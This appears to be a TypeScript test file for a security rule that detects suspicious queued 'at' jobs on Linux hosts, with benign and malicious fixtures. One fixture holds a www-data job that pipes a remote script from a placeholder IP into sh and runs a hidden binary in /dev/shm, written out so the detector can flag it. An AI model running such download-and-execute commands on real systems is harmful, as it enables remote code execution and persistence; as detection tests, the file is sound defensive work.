import atJobs from '../../collect/persistence/at-jobs';
import { testRule } from '../../../test/helpers/rule-tester';
import { atJobFile, collectFrom, OLD, ownPaths, RECENT } from '../../../test/helpers/persistence';
import rule from './at-job';

const at = (build: Parameters<typeof collectFrom>[0]) => collectFrom(build, [atJobs]).facts;

testRule(rule, {
  valid: [
    {
      name: 'empty spool with only the sequence file',
      facts: at((r) => r.write('/var/spool/cron/atjobs/.SEQ', '5\n').mkdir('/var/spool/cron/atspool')),
    },
    { name: 'no at installed', facts: at(() => {}) },
  ],
  invalid: [
    {
      name: 'admin queued a reboot: info',
      facts: at((r) =>
        ownPaths(r, 'systemd-sysv', ['/sbin/reboot']).write('/var/spool/cron/atjobs/a0000b01a2b3c4', atJobFile('/sbin/reboot'), {
          mode: 0o700,
          mtime: OLD,
        }),
      ),
      expect: [{ severity: 'info', path: '/var/spool/cron/atjobs/a0000b01a2b3c4', user: 'root', title: /Queued at job of root/ }],
    },
    {
      name: 'www-data queued a downloader and a payload in /dev/shm',
      facts: at((r) =>
        r
          .write('/dev/shm/.k', 'ELF', { mode: 0o755 })
          .write('/var/spool/cron/atjobs/a0000c01a2b3c5', atJobFile('curl -s http://198.51.100.3/a | sh\n/dev/shm/.k', 33, 'www-data'), {
            mode: 0o700,
            mtime: RECENT,
          }),
      ),
      expect: [
        { severity: 'critical', path: '/var/spool/cron/atjobs/a0000c01a2b3c5', user: 'www-data', title: /downloads a script/ },
        {
          severity: 'high',
          path: '/var/spool/cron/atjobs/a0000c01a2b3c5',
          user: 'www-data',
          evidence: /\/dev\/shm\/\.k: in a world-writable temporary directory/,
        },
      ],
    },
  ],
});
